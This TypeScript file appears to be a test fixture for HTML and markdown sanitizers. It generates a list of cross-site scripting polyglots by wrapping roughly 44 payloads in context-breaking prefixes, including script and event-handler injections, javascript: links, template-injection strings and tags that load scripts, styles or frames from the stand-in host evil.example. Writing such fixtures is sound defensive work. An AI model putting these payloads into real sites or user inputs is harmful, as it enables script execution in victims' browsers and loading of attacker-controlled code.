/** Texts that become scripts, requests or windows wherever somebody forgets what they are. Each asks `evil.example` or opens a dialog. */

const EVIL = 'https://evil.example';

const SEEDS: readonly string[] = [
  '<script>alert(1)</script>',
  `<script src=${EVIL}/x.js></script>`,
  '<ScRiPt/x>alert(1)</sCrIpT >',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  `<img src=${EVIL}/x.png srcset="${EVIL}/y.png 2x">`,
  '<img src=x:x onerror\u000c=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  `<svg><use href="${EVIL}/x.svg#a"/><image href="${EVIL}/x.png"/></svg>`,
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  `<iframe src="${EVIL}/"></iframe>`,
  '<object data="javascript:alert(1)"></object>',
  `<embed src="${EVIL}/x.swf">`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<style>@import "${EVIL}/x.css";*{background:url(${EVIL}/x.png)}</style>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href=${EVIL}/>`,
  `<form action=${EVIL}><input autofocus onfocus=alert(1)><button>Go</button></form>`,
  '<details open ontoggle=alert(1)>x</details>',
  `<video poster=${EVIL}/x.png onerror=alert(1)><source src=${EVIL}/x></video>`,
  `<div style="background:url(${EVIL}/x.png);position:fixed;inset:0" onmouseover=alert(1)>x</div>`,
  '<body onload=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  `<a href=${EVIL} ping=${EVIL}/ping target=_blank>x</a>`,
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&#58;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  `![x](${EVIL}/x.png "t")`,
  `[![x](${EVIL}/x.png)](javascript:alert(1))`,
  `[x][1]\n\n[1]: javascript:alert(1)\n\n![y][2]\n\n[2]: ${EVIL}/y.png`,
  '<javascript:alert(1)>',
  `<${EVIL}/x> ${EVIL}/y www.evil.example`,
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}#{alert(1)}<%= alert(1) %>{@html "<img src=x onerror=alert(1)>"}',
  '\u202egnp.exe\u2066<img src=x onerror=alert(1)>\u2069',
  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cimg src=x onerror=alert(1)\\u003e %3Cscript%3Ealert(1)%3C/script%3E',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
];

/** Where the text may stand: alone, and behind whatever could end the place in which it stands. */
const PLACES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `</textarea></title></style></script>--!>${text}`,
  (text) => `\`\`\`\n${text}\n\`\`\` \`${text}\``,
  (text) => `- **${text}**\n\n> ${text}`,
  (text) => `[${text}](https://example.com/?q=${encodeURIComponent(text)})`,
  (text) => `x" onmouseover="alert(1)" autofocus onfocus="alert(1)" y='${text}`,
];

/** Each with a mark of its own, `poly1poly`, by which a view shows that it has shown it. */
export const POLYGLOTS: readonly string[] = SEEDS.flatMap((seed) => PLACES.map((place) => place(seed))).map((text, n) => `poly${n}poly ${text}`);
